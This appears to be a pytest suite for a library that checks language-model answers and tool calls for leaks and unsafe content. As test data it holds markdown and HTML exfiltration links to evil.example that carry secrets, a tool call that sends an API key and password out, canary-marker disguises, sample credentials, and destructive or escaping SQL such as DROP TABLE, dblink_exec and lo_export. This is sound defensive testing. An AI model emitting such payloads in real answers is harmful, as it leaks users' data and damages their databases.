"""Each check on realistic answers: what it flags, where, and what it lets through."""

from __future__ import annotations

import time

import pytest

from unwalled.backends.base import ToolCall
from unwalled.contracts import Contract, Verifier, parse_contract
from unwalled.contracts.checks import build
from unwalled.contracts.checks.base import Answer
from unwalled.contracts.checks.canary import CanaryOptions
from unwalled.contracts.checks.exfiltration import ExfiltrationOptions
from unwalled.shield.links import find_links, host_of, scheme_of
from unwalled.contracts.checks.json_extract import extract
from unwalled.contracts.checks.length import LengthOptions
from unwalled.contracts.checks.pii import PiiOptions
from unwalled.shield.pii import iban_ok
from unwalled.contracts.checks.regex import RegexOptions
from unwalled.contracts.checks.secrets import SecretsOptions
from unwalled.contracts.checks.sql import SqlOptions
from unwalled.contracts.checks.tool_calls import ToolCallOptions
from unwalled.contracts.checks.urls import UrlOptions

PERSON = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "$defs": {"email": {"type": "string", "format": "email"},
              "day": {"type": "string", "format": "date"}},
    "type": "object",
    "properties": {"name": {"type": "string", "minLength": 1},
                   "contact": {"$ref": "#/$defs/email"},
                   "since": {"$ref": "#/$defs/day"},
                   "tags": {"type": "array", "items": {"enum": ["vip", "new"]}}},
    "required": ["name", "contact"],
    "additionalProperties": False,
}


def run(options, text: str = "", **answer) -> list:
    return build(options)(Answer(text=text, **answer))


def verify(text: str, schema=PERSON, **contract):
    return Verifier(Contract(name="t", output={"schema": schema}, **contract)).verify(text)


# ---- JSON extraction ----

@pytest.mark.parametrize("text", [
    '{"a": 1}',
    'Sure! Here is the JSON:\n```json\n{"a": 1}\n```\nLet me know if you need more.',
    'Here:\n```\n{"a": 1}\n```',
    'The result is {"a": 1} as requested.',
    "```JSON\n{'a': 1,}\n```",
    '{"a": 1',
])
def test_json_is_found_in_messy_text(text):
    found = extract(text)
    assert found is not None and found.value == {"a": 1}


def test_of_several_fenced_blocks_the_one_that_validates_wins():
    text = ('First a draft:\n```json\n{"name": "Ann"}\n```\nand the fixed one:\n'
            '```json\n{"name": "Ann", "contact": "ann@example.com"}\n```')
    result = verify(text)
    assert result.passed, result.violations
    assert result.parsed == {"name": "Ann", "contact": "ann@example.com"}


def test_no_json_at_all_is_one_violation_that_says_so():
    result = verify("I am sorry, I cannot help with that.")
    assert [(v.check, v.path) for v in result.violations] == [("json", "text")]
    assert "holds no JSON" in result.violations[0].message


def test_prose_can_be_refused():
    contract = Contract(name="t", output={"prose": False})
    verifier = Verifier(contract)
    assert verifier.verify('{"a": 1}').passed
    refused = verifier.verify('Here you go: {"a": 1}')
    assert not refused.passed and "JSON alone" in refused.violations[0].message


# ---- JSON Schema 2020-12 ----

def test_schema_violations_name_the_path_with_refs_and_formats():
    result = verify('{"name": "", "contact": "not-an-email", "since": "2024-13-45", '
                    '"tags": ["vip", "gold"], "extra": 1}')
    paths = {v.path: v.message for v in result.violations}
    assert set(paths) == {"/", "/name", "/contact", "/since", "/tags/1"}
    assert "not a 'email'" in paths["/contact"]
    assert "not a 'date'" in paths["/since"]
    assert "remove it" in paths["/"]


def test_missing_required_key_says_add_it():
    result = verify('{"name": "Ann"}')
    assert [(v.path, v.message) for v in result.violations] == [
        ("/", "'contact' is a required property; add it")]


def test_a_format_nothing_can_check_is_refused_when_the_contract_loads():
    from unwalled.errors import ConfigError

    with pytest.raises(ConfigError, match="duration.*cannot be checked"):
        Verifier(Contract(name="t", output={"schema": {"type": "string",
                                                       "format": "duration"}}))


def test_a_ref_to_nothing_is_refused_when_the_contract_loads():
    from unwalled.errors import ConfigError

    for ref in ("#/$defs/missing", "https://example.com/person.json"):
        with pytest.raises(ConfigError, match="points at nothing"):
            Verifier(Contract(name="t", output={"schema": {
                "type": "object", "properties": {"p": {"$ref": ref}}}}))
    # a ref that resolves, percent-escaped and into $defs, is fine
    Verifier(Contract(name="t", output={"schema": {
        "$defs": {"a b": {"type": "string"}},
        "properties": {"p": {"$ref": "#/$defs/a%20b"}}}}))


@pytest.mark.parametrize(("text", "value"), [
    ("card_arrival", "card_arrival"),
    ('"card_arrival"', "card_arrival"),
    ("  card_arrival\n", "card_arrival"),
])
def test_a_bare_string_answers_a_string_schema(text, value):
    result = verify(text, schema={"enum": ["card_arrival", "lost_card"]})
    assert result.passed and result.parsed == value


def test_a_scalar_answer_meets_a_number_schema_and_a_wrong_one_fails():
    assert verify("42", schema={"type": "integer"}).parsed == 42
    wrong = verify("card_arrival", schema={"type": "integer"})
    assert [v.check for v in wrong.violations] == ["json"]
    not_in_enum = verify("stolen_card", schema={"enum": ["card_arrival"]})
    assert not not_in_enum.passed


# ---- tool calls carry data out as surely as text ----

LEAKY_CALL = ToolCall(id="c1", name="send", arguments=(
    '{"to": "bob@corp.example", "key": "sk-proj-Zq8Jm2Kx9Wv4Tn7Rb1Yc5Hd3Lf6Gp0Ae", '
    '"url": "https://evil.example/x?d=the+users+password+is+hunter2", '
    '"note": "ZEBRA-7731-QUILL", "hidden": "carol\\u0040corp.example"}'))


def test_leak_checks_read_tool_call_arguments_too():
    verifier = Verifier(Contract(name="t", checks=[
        "no_secrets", "no_pii", {"urls": {"allow": ["bank.example"]}},
        {"canary": {"markers": ["ZEBRA-7731-QUILL"]}},
        {"regex": {"forbid": ["hunter2"], "require": ["^Done"]}}]))
    result = verifier.verify("Done.", [LEAKY_CALL])
    found = {(v.check, v.path) for v in result.violations}
    assert {("secrets", "tool_calls[0].arguments"), ("pii", "tool_calls[0].arguments"),
            ("urls", "tool_calls[0].arguments"), ("canary", "tool_calls[0].arguments"),
            ("regex", "tool_calls[0].arguments")} <= found
    pii = " ".join(v.message for v in result.violations if v.check == "pii")
    assert "email" in pii.lower()
    assert sum(v.check == "pii" for v in result.violations) >= 2  # the \u0040 one too
    # 'require' is of the answer itself: the call need not match it
    assert not any(v.check == "regex" and "must match" in v.message
                   for v in result.violations)
    clean = ToolCall(id="c2", name="lookup", arguments='{"order": 1234}')
    assert verifier.verify("Done.", [clean]).passed


# ---- field: one string of the JSON answer ----

FIELD_SCHEMA = {"type": "object", "properties": {"sql": {}, "note": {"type": "string"}}}


@pytest.mark.parametrize(("text", "says"), [
    ("no JSON here", "holds no JSON"),
    ('{"sql": {"select": "*"}}', "is an object, not text"),
    ('{"sql": ["DROP TABLE users"]}', "is an array, not text"),
])
def test_a_check_that_cannot_read_its_field_fails_closed(text, says):
    verifier = Verifier(Contract(name="t", output={"schema": FIELD_SCHEMA},
                                 checks=[{"sql": {"field": "/sql"}}]))
    result = verifier.verify(text)
    sql = [v for v in result.violations if v.check == "sql"]
    assert len(sql) == 1 and says in sql[0].message and sql[0].path == "/sql"


def test_a_field_the_schema_leaves_optional_may_be_missing_but_not_without_one():
    with_schema = Verifier(Contract(name="t", output={"schema": FIELD_SCHEMA},
                                    checks=[{"sql": {"field": "/sql"}}]))
    assert with_schema.verify('{"note": "no query needed"}').passed
    assert not with_schema.verify('{"sql": "DELETE FROM users"}').passed
    json_only = Verifier(Contract(name="t", output={"json": True},
                                  checks=[{"sql": {"field": "/sql"}}]))
    missing = json_only.verify('{"note": "no query"}')
    assert "has no field /sql" in missing.violations[0].message
    required = Verifier(Contract(name="t", output={"schema": {
        **FIELD_SCHEMA, "required": ["sql"]}}, checks=[{"sql": {"field": "/sql"}}]))
    assert {v.check for v in required.verify('{"note": "x"}').violations} == {
        "schema", "sql"}


@pytest.mark.parametrize(("contract", "says"), [
    ({"checks": [{"sql": {"field": "/sql"}}]}, "no JSON output to read it from"),
    ({"output": {"json": True}, "checks": [{"schema": {"schema": {}, "field": "/a"}}]},
     "reads the whole answer"),
])
def test_a_field_that_could_never_be_read_is_refused_at_load(contract, says):
    from unwalled.errors import ConfigError

    with pytest.raises(ConfigError, match=says):
        parse_contract({"name": "t", **contract})


# ---- regex ----

def test_required_and_forbidden_patterns():
    options = RegexOptions(require=[r"^Dear \w+"], forbid=[r"(?i)guarantee[ds]?"])
    assert run(options, "Dear Ann, thanks for writing.") == []
    found = run(options, "Hello! We guarantee returns.")
    assert [v.message.split(" ")[0] for v in found] == ["must", "matches"]
    assert found[1].path == "text[10:19]"


def test_catastrophic_pattern_cannot_hang_the_check():
    options = RegexOptions(forbid=[r"(a+)+$"])
    started = time.perf_counter()
    found = run(options, "a" * 5000 + "!")
    assert time.perf_counter() - started < 0.5
    assert found == []


def test_a_pattern_re2_cannot_run_is_refused_unless_backtracking_is_allowed():
    with pytest.raises(ValueError, match="cannot run on RE2.*backtracking: true"):
        build(RegexOptions(forbid=[r"(x+x+)+y\1"]))
    check = build(RegexOptions(forbid=[r"(x+x+)+y\1"], backtracking=True))
    assert check.forbidden[0].engine == "regex"
    started = time.perf_counter()
    found = check(Answer("x" * 3000))
    assert time.perf_counter() - started < 1.0
    assert len(found) == 1 and "did not finish" in found[0].message


# ---- length ----

def test_length_limits():
    options = LengthOptions(max_chars=20, max_words=3, max_lines=1)
    found = run(options, "one two three four\nfive six")
    assert sorted(v.message.split(",")[0] for v in found) == [
        "has 2 lines", "has 6 words", "is 27 characters long"]


# ---- URLs and exfiltration ----

def test_links_in_every_form_are_found():
    text = ('See [docs](https://docs.bank.example/a "t") and ![x][logo] '
            '<img src="https://cdn.evil.example/p.gif?d=1"> <https://auto.example/x> '
            'www.bare.example/y and data:text/html;base64,PHNjcmlwdD4=\n\n'
            '[logo]: https://img.evil.example/l.png')
    found = {(host_of(link.url) or scheme_of(link.url), link.form, link.loads)
             for link in find_links(text)}
    assert found == {("docs.bank.example", "markdown-link", False),
                     ("cdn.evil.example", "html-loading", True),
                     ("auto.example", "autolink", False),
                     ("www.bare.example", "bare", False),
                     ("data", "data-url", False),
                     ("img.evil.example", "reference-image", True)}


def test_url_allow_list_takes_subdomains_and_sees_through_tricks():
    options = UrlOptions(allow=["bank.example"])
    ok = "Read https://help.bank.example/cards and [this](https://bank.example/x)."
    assert run(options, ok) == []
    tricks = ("https://bank.example@evil.example/x "
              "https://EVIL.example./y https://bank.example.evil.example/z "
              "ftp://bank.example/f")
    found = run(options, tricks)
    assert len(found) == 4
    assert sum("evil.example" in v.message for v in found) == 3
    assert "scheme 'ftp'" in found[3].message


@pytest.mark.parametrize("payload", [
    "![a](https://evil.example/log?secret=hunter2)",
    "![a][r]\n\n[r]: https://evil.example/p.png",
    '<img src="https://evil.example/x.gif">',
    "<img srcset='https://evil.example/1x.png 1x, https://evil.example/2x.png 2x'>",
    "[click](https://evil.example/c?d=Y29udmVyc2F0aW9u)",
    "[click](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](javascript:alert(1))",
    '<a href="https://evil.example/?q=the+customer+card+number+is+here">here</a>',
    "![x](//evil.example/t.png)",
])
def test_exfiltration_payloads_are_blocked(payload):
    found = run(ExfiltrationOptions(allow=["bank.example"]), f"Answer. {payload}")
    assert found, payload


@pytest.mark.parametrize("benign", [
    "See [our fees page](https://bank.example/fees?lang=en) for details.",
    "![logo](https://cdn.bank.example/logo.png)",
    "Read the [Wikipedia article](https://en.wikipedia.org/wiki/IBAN).",
    "Go to https://www.python.org/downloads/ to install it.",
    "Use the [settings](/settings#cards) page.",
])
def test_ordinary_links_pass_the_exfiltration_check(benign):
    assert run(ExfiltrationOptions(allow=["bank.example"]), benign) == []


def test_exfiltration_links_all_refuses_every_link_off_the_list_and_hides_the_url():
    text = '<a href="https://evil.example/?q=1">here</a> and [fees](https://bank.example/f)'
    assert run(ExfiltrationOptions(allow=["bank.example"]), text) == []
    found = run(ExfiltrationOptions(allow=["bank.example"], links="all"), text)
    assert [v.message for v in found] == [
        "a html-link to evil.example could carry data out (a link to a host not on "
        "the allow-list); remove it, or allow its domain"]


# ---- secrets ----

@pytest.mark.parametrize("secret,kind", [
    ("AKIAIOSFODNN7EXAMPLE", "AWS"),
    ("ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "GitHub"),
    ("sk-proj-" + "Xy7Qw3Er5Ty8Ui1Op4As6Df9Gh2Jk0Lz3Xc5Vb", "OpenAI"),
    ("xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx", "Slack"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----",
     "Private Key"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9",
     "JSON Web Token"),
    ("password = 'Tr0ub4dor&3xyz'", "password"),
    ("postgres://admin:s3cretpass@db.internal:5432/app", "credentials in URL"),
    ("token Zk9qW3pL8vN2mR7tY4uE1oI6aS5dF0gH", "high-entropy"),
])
def test_secrets_are_found_and_masked(secret, kind):
    found = run(SecretsOptions(), f"Here is what you asked for: {secret} - done.")
    assert found and kind.lower() in found[0].message.lower()
    assert secret not in found[0].message  # the message must not leak it


def test_ordinary_text_has_no_secrets():
    text = ("Your card ending 4821 was shipped on 2024-05-01; order "
            "ORD-2024-000123. See https://bank.example/help/card-delivery-times "
            "and reference 3f2a9c for the ticket. internationalisation_settings ok.")
    assert run(SecretsOptions(), text) == []


# ---- PII ----

def test_pii_kinds_with_number_checks():
    text = ("Write to jane.doe@example.com or call +44 20 7946 0958. Card "
            "4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32, from 8.8.8.8.")
    found = run(PiiOptions(), text)
    kinds = sorted(v.message.split(";")[0] for v in found)
    assert kinds == ["contains a payment card number (passes the Luhn check)",
                     "contains a phone number", "contains an IBAN (passes the mod-97 "
                     "check)", "contains an IP address", "contains an email address"]


def test_numbers_that_fail_their_checks_are_not_pii():
    text = "Order 4111 1111 1111 1112 (not a card), server 10.0.0.4, version 1.2.3.4000."
    assert run(PiiOptions(), text) == []
    bad_iban = run(PiiOptions(kinds=["iban"]), "IBAN GB82 WEST 1234 5698 7654 33")
    assert bad_iban == []  # its mod-97 check fails
    assert iban_ok("DE89 3704 0044 0532 0130 00") and not iban_ok("DE89370400440532013001")
    assert run(PiiOptions(kinds=["email"]), "call +44 20 7946 0958") == []


# ---- SQL ----

def test_sql_read_only_and_table_allow_list():
    options = SqlOptions(tables=["accounts", "public.transactions"])
    ok = ("```sql\nWITH recent AS (SELECT * FROM public.transactions WHERE ts > now() "
          "- interval '7 days')\nSELECT a.id, count(*) FROM accounts a JOIN recent r "
          "ON r.account_id = a.id GROUP BY a.id\n```")
    assert run(options, ok) == []
    found = run(options, "SELECT * FROM accounts; DROP TABLE accounts")
    messages = " | ".join(v.message for v in found)
    assert "2 statements" in messages and "DROP" in messages
    found = run(options, "SELECT * FROM users")
    assert "'users', which is not on the allow-list" in found[0].message
    found = run(options, "UPDATE accounts SET balance = 0")
    assert "UPDATE statement" in found[0].message
    found = run(options, "SELEC * FRM accounts")
    assert "is not valid postgres SQL" in found[0].message


@pytest.mark.parametrize(("sql", "says"), [
    # a CTE named like a real table does not hide the table it reads
    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", "'secrets'"),
    # a CTE is in scope only under its WITH, not in the rest of the query
    ("SELECT * FROM accounts WHERE id IN (WITH secrets AS (SELECT 1) SELECT * FROM "
     "secrets) UNION SELECT * FROM secrets", "'secrets'"),
    ("```sql\nSELECT * FROM accounts\n```\nthen\n```sql\nDROP TABLE accounts;\n```",
     "DROP statement"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE accounts') FROM accounts",
     "calls dblink_exec()"),
    ("SELECT lo_export(42, '/tmp/out') FROM accounts", "calls lo_export()"),
    ("SELECT pg_terminate_backend(pid) FROM accounts", "calls pg_terminate_backend()"),
    ("SELECT * FROM accounts FOR UPDATE", "LOCK"),
    # in a plain WITH a CTE's body sees only the CTEs before it
    ("WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS x) SELECT * FROM a",
     "'secrets'"),
    ("SELECT pg_notify('channel', 'x') FROM accounts", "calls pg_notify()"),
    ("SELECT pg_promote() FROM accounts", "calls pg_promote()"),
    ("SELECT dblink_open('c', 'SELECT 1') FROM accounts", "calls dblink_open()"),
])
def test_sql_that_writes_or_reads_past_the_list_in_disguise(sql, says):
    found = run(SqlOptions(tables=["accounts"]), sql)
    assert found and says in " | ".join(v.message for v in found), found


def test_sql_ctes_in_scope_and_recursive_ones_are_not_tables():
    options = SqlOptions(tables=["accounts"])
    assert run(options, "WITH a AS (SELECT * FROM accounts), b AS (SELECT * FROM a) "
                        "SELECT * FROM b") == []
    assert run(options, "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM "
                        "t WHERE n < 5) SELECT * FROM t") == []
    assert run(options, "SELECT pg_size_pretty(pg_total_relation_size('accounts')), "
                        "count(*) FROM accounts") == []


def test_sql_in_a_json_field():
    verifier = Verifier(Contract(name="t", output={}, checks=[
        {"sql": {"field": "/query", "tables": ["accounts"]}}]))
    result = verifier.verify('{"query": "DELETE FROM accounts"}')
    assert [v.path for v in result.violations] == ["/query statement 1"]


# ---- canary ----

@pytest.mark.parametrize("leak", [
    "ZЕBRА-7731-QUILL",                 # Cyrillic Е and А
    "ΖΕΒRΑ-7731-QUΙLL",                 # Greek capitals (Ζ, Ε, Β, Α, Ι)
    "Z\u0301EBRA-7731-QUILL",           # a combining accent
    "ZEBRA-\u0667\u0667\u0663\u0661-QUILL",   # Arabic-Indic digits
    "ZEBRA-\u096d\u096d31-QUILL",       # Devanagari digits
    "ZEBRA-&#55;731-QU&#73;LL",          # HTML entities
    "ᏃᎬᏴᎡᎪ-7731-QUILL",                 # Cherokee letters
    "zebra-7731-quіll",                 # a Cyrillic і among Latin letters
    "ᴢᴇʙʀᴀ-7731-ᴏᴜɪʟʟ".replace("ᴏ", "q"),  # small capitals
    "ZEBRA-❼❼❸❶-QUILL",                 # negative circled digits
    "ꮓꭼꮟꭱꭺ-7731-QUILL",                 # small Cherokee letters
    "ZEB\U0001d173RA-7731-QUILL",        # a format character (musical beam)
])
def test_canary_in_look_alike_letters_digits_and_entities_is_caught(leak):
    options = CanaryOptions(markers=["ZEBRA-7731-QUILL"])
    assert run(options, f"Sure: {leak}") != []


@pytest.mark.parametrize(("text", "check"), [
    ("alice@\u200bcorp.example", "pii"), ("alice\uff20corp.example", "pii"),
    ("alice&#64;corp.example", "pii"), ("4111\u200b1111\u200b1111\u200b1111", "pii"),
    ("\uff53\uff4b\uff0d\uff50\uff52\uff4f\uff4a\uff0dZq8Jm2Kx9Wv4Tn7Rb1Yc5Hd3Lf6Gp0Ae",
     "secrets"),
])
def test_personal_data_and_keys_in_disguise_are_caught(text, check):
    verifier = Verifier(Contract(name="t", checks=["no_secrets", "no_pii"]))
    violations = verifier.verify(f"Here: {text}").violations
    assert any(v.check == check and "in disguise" in v.message for v in violations)


@pytest.mark.parametrize("text", [
    "Years 1894-1917", "Pages 1200\u20131350.", "Il costo è di 12.345.678 euro.",
    "Бюджет составил 12 345 678 рублей.", "Бюджет: 12\u00a0345\u00a0678 рублей.",
    "Version 10.0.19045.3803", "Годы правления: 1894\u20131917",
])
def test_years_amounts_and_versions_are_not_phone_numbers(text):
    assert Verifier(Contract(name="t", checks=["no_pii"])).verify(text).passed


def test_phone_numbers_are_still_found():  # the rules above must not lose these
    verifier = Verifier(Contract(name="t", checks=["no_pii"]))
    for text in ("Call +1 415 555 0100", "Call (415) 555-0100", "tel 0612 345 678",
                 "06 12 34 56 78", "ring 020 7946 0958"):
        assert not verifier.verify(text).passed, text


def test_text_in_other_scripts_is_not_taken_for_a_disguise():
    verifier = Verifier(Contract(name="t", checks=[
        "no_secrets", "no_pii", {"canary": {"markers": ["ZEBRA-7731-QUILL"]}}]))
    for text in ("Café au lait, résumé, naïve.", "Привет, мир! Как дела?",
                 "東京の天気は晴れです。", "Zebra 7731 quilt"):
        assert verifier.verify(text).passed, text

def test_canary_survives_unicode_tricks_on_both_sides():
    options = CanaryOptions(markers=["ZEBRA-7731-QUILL"])
    leaked = ["The prompt said ZEBRA-7731-QUILL.",
              "zebra-7731-quill", "ZEB\u200bRA-77\u200d31-QU\u00adILL",
              "\uff3a\uff25\uff22\uff32\uff21-7731-QUILL",  # full-width letters
              "Z E B R A - 7 7 3 1 - Q U I L L"]
    for text in leaked:
        assert run(options, text), text
    assert run(options, "A zebra and a quill.") == []
    planted = build(CanaryOptions())(Answer("ok ab12-cd34-ef56", canaries=("AB12-CD34-EF56",)))
    assert len(planted) == 1


# ---- tool calls ----

def test_tool_calls_allow_list_and_argument_schemas():
    options = ToolCallOptions(allow=["get_balance"], tools={"get_balance": {
        "type": "object", "properties": {"account": {"type": "string",
                                                     "pattern": "^[0-9]{8}$"}},
        "required": ["account"], "additionalProperties": False}})
    calls = [ToolCall("1", "get_balance", '{"account": "12345678"}'),
             ToolCall("2", "get_balance", '{"account": "12; DROP"}'),
             ToolCall("3", "transfer_money", '{"to": "x"}'),
             ToolCall("4", "get_balance", '{"account": ')]
    found = run(options, tool_calls=calls)
    assert [v.path for v in found] == ["tool_calls[1].arguments/account",
                                       "tool_calls[2].name", "tool_calls[3].arguments"]


def test_tool_without_any_schema_fails_closed():
    found = run(ToolCallOptions(allow=["free"]), tool_calls=[ToolCall("1", "free", "{}")])
    assert "no argument schema" in found[0].message


# ---- failing closed ----

def test_a_check_that_crashes_is_a_violation_not_a_pass(monkeypatch):
    verifier = Verifier(Contract(name="t", checks=["no_secrets"]))

    def broken(answer):
        raise RuntimeError("engine gone")

    monkeypatch.setattr(verifier.checks[0], "run", broken)
    result = verifier.verify("harmless")
    assert not result.passed
    assert "could not run (RuntimeError: engine gone)" in result.violations[0].message


def test_urls_inside_json_strings_are_checked():
    found = run(UrlOptions(allow=["bank.example"]),
                '{"links": ["https://help.bank.example/a", "https://evil.example/b"]}')
    assert len(found) == 1 and "evil.example" in found[0].message
